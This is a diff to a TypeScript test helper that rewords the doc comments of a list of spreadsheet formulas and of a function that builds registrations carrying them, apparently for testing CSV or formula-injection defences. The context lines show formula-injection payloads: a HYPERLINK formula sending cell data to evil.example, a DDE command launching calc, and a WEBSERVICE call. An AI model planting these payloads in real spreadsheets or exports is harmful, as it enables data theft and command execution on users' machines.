@@ -5,7 +5,7 @@ import { device } from '../../registrations/device.ts'
 import { someRegistration } from '../../registrations/some-registration.ts'
 import type { TestServer } from '../../test-server.ts'
 
-/** What a spreadsheet would work out, where a cell holds it as it was typed. */
+/** Texts that a spreadsheet would compute as formulas if a cell contained them as typed. */
 export const FORMULAS: readonly string[] = [
   '=HYPERLINK("https://evil.example?x="&A1,"me")',
   "+cmd|' /C calc'!A0",
@@ -17,7 +17,10 @@ export const FORMULAS: readonly string[] = [
   '=WEBSERVICE("https://evil.example")',
 ]
 
-/** A registration with the formula as the name of its candidate and of its consultant, as an answer and as the reason of a transfer. Answers its consultant and its id. */
+/**
+ * Makes a registration with the formula as the name of its candidate and of its consultant, as an answer and as the reason of a transfer. Returns the
+ * consultant and the id.
+ */
 export async function registrationOfFormula(server: TestServer, formula: string) {
   const desk = await someConsultant(server, {
     branches: ['Leeds Registrations', 'Hull Registrations'],
